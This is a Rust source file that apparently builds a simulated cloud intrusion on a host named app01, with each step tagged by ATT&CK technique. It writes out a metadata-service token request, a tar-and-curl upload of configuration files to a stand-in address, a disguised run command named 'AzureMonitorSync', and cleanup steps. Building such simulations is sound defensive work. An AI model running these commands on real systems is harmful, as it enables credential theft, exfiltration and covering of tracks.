//! On app01: a token for the machine's identity, and a managed run command that does not stay.

use super::super::cast::{APP, PRODUCTION, machine};
use super::run;
use crate::cloud::catalogue as kinds;
use crate::instant::Instant;
use crate::plan::{Call, Invoked, Plan, Way, Work};

pub(super) fn fill(plan: &mut Plan, by: Call, day: Instant) -> Option<Invoked> {
    let identity = Work::new(include_str!("../scripts/identity.sh"), "{\"compute\":{\"azEnvironment\":\"AzurePublicCloud\",\"name\":\"app01\"}}{\"access_token\":\"eyJ0eXAiOiJKV1QiLCJhbGciOiJub25lIn0.example\"}\n", 700)
        .starts(3, "/usr/bin/curl", &["curl", "-s", "-H", "Metadata:true", "http://169.254.169.254/metadata/instance?api-version=2021-02-01"]);
    let wiped = plan.invoke(by, APP, Way::Action, identity, day.at(9, 34, 26));
    if let Some(invoked) = wiped {
        plan.wipe(invoked.run);
    }
    run(
        plan,
        "The machine's identity is asked for a token on app01 (traces wiped later)",
        &["T1651", "T1552.005"],
        wiped,
    );

    let exfil = Work::new(
        include_str!("../scripts/exfil.sh"),
        "sent part.aa\nsent part.ab\nsent part.ac\n",
        33_000,
    )
    .starts(
        8,
        "/usr/bin/tar",
        &[
            "tar",
            "czf",
            "/tmp/.sync.k3Vd0a/orders.tgz",
            "/opt/orders/config",
            "/etc/orders",
        ],
    )
    .starts(
        2_400,
        "/usr/bin/curl",
        &[
            "curl",
            "-fsS",
            "-T",
            "/tmp/.sync.k3Vd0a/part.aa",
            "https://203.0.113.200/u/app01/",
            "-k",
        ],
    )
    .starts(32_600, "/usr/bin/rm", &["rm", "-rf", "/tmp/.sync.k3Vd0a"]);
    let invoked = plan.invoke(
        by,
        APP,
        Way::Managed("AzureMonitorSync"),
        exfil,
        day.at(9, 40, 51),
    );
    run(
        plan,
        "Configuration leaves app01 by a managed run command that is named like a service",
        &["T1651", "T1036", "T1048"],
        invoked,
    );
    let resource = format!("{}/runCommands/AzureMonitorSync", machine(plan, APP));
    let removed = plan.call(
        by,
        &kinds::RUN_COMMANDS_DELETE,
        PRODUCTION,
        &resource,
        day.at(10, 21, 8),
    );
    if let Some(run) = invoked.and_then(|it| plan.world.runs.get_mut(it.run)) {
        run.removed = Some(day.at(10, 21, 13));
    }
    plan.step(
        "The managed run command is deleted, 41 minutes after it was made",
        &["T1070.004"],
        Some(removed),
        None,
    );
    wiped
}
